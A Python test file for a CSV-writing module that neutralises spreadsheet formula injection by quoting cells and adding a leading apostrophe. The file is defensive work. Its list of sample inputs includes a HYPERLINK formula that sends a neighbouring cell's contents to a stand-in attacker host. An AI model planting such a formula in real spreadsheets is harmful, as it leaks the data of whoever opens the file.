"""Texts in CSV files that spreadsheets open: no formulas, and every text comes back."""

import csv
import io

import pyarrow as pa
import pyarrow.csv
import pytest
from hypothesis import given
from hypothesis import strategies as st

from fruits.csv_cells import escape, plain, write_csv

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A2,"photo").jpg',
    "+1+1.jpg",
    "-2+3/a.jpg",
    "@SUM(1).jpg",
    "\t=1.jpg",
    "\r=1.jpg",
    "\n=1.jpg",
    "  =1+1.jpg",
    "＝1+1.jpg",
    "＠SUM(1)",
    "'=1+1.jpg",
    "''-1.jpg",
]
HARMLESS = ["Apple/=1.jpg", "a=b.jpg", "'a'.jpg", "''", "'", "", " a.jpg", "Kiwi, vert", '"=1".jpg']


def _written(texts: list[str | None]) -> str:
    out = io.BytesIO()
    write_csv(pa.table({"path": texts, "pc_1": [-1.5] * len(texts)}), out)
    return out.getvalue().decode()


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_text_and_comes_back(text: str) -> None:
    cell = list(csv.reader(io.StringIO(_written([text]), newline="")))[1][0]
    assert cell == f"'{text}"
    assert plain(pa.array([cell])).to_pylist() == [text]


def test_other_texts_missing_texts_and_numbers_are_as_they_were() -> None:
    assert escape(pa.array(HARMLESS)).to_pylist() == HARMLESS
    assert plain(pa.array(HARMLESS)).to_pylist() == HARMLESS
    assert _written(["a.jpg", None]) == '"path","pc_1"\n"a.jpg",-1.5\n,-1.5\n'


def test_every_text_is_quoted_so_that_a_semicolon_starts_no_cell() -> None:
    """Where the decimal separator is a comma, spreadsheets separate cells at semicolons."""
    assert '"a;=1+1.jpg",' in _written(["a;=1+1.jpg"])


@given(st.lists(st.text("'=+-@\t\r\n ＝＋－＠a", max_size=6)))
def test_plain_is_the_inverse_of_escape(texts: list[str]) -> None:
    array = pa.array(texts, pa.string())
    escaped = escape(array)
    assert plain(escaped).to_pylist() == texts
    for cell in escaped.to_pylist():
        assert cell.lstrip(" ")[:1] not in set("=+-@＝＋－＠")
        assert cell[:1] not in set("\t\r\n")


def test_columns_of_chunks_and_large_strings_are_escaped_too() -> None:
    out = io.BytesIO()
    chunks = pa.chunked_array([["=1"], ["b"]], pa.large_string())
    write_csv(pa.table({"path": chunks}), out)
    assert out.getvalue() == b'"path"\n"\'=1"\n"b"\n'
